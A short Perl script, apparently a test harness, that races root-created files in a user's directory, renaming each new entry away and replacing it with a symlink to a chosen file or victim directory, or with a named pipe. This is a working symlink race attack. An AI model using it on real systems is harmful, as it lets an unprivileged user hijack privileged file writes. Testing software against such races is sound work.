#!/usr/bin/perl
# plant-links.pl DIRECTORY FILE VICTIM SECONDS : what a user can do to files that root makes in that user's directory.
# Every entry that shows up is renamed away. In turn, a link to FILE, a link to the directory VICTIM or a pipe takes its place.
use strict;
use warnings;
use Time::HiRes qw(time);

my ($directory, $file, $victim, $seconds) = @ARGV;
my $end = time + $seconds;
my ($known, $planted) = ({}, 0);
chdir $directory or die "$directory: $!";

sub entries { opendir my $handle, '.' or die $!; my @names = grep { !/^\.\.?$/ && !/^gone-/ } readdir $handle; return @names }

$known->{$_} = 1 for entries();
open my $ready, '>', '/tmp/planting' or die $!;
close $ready;
while (time < $end) {
  for my $name (entries()) {
    next if $known->{$name};
    next if !rename $name, "gone-$planted";
    $planted++;
    if ($planted % 3 == 0) { system 'mkfifo', '--', $name } else { symlink $planted % 3 == 1 ? $file : $victim, $name }
    $known->{$name} = 1;
  }
}
print "$planted\n";
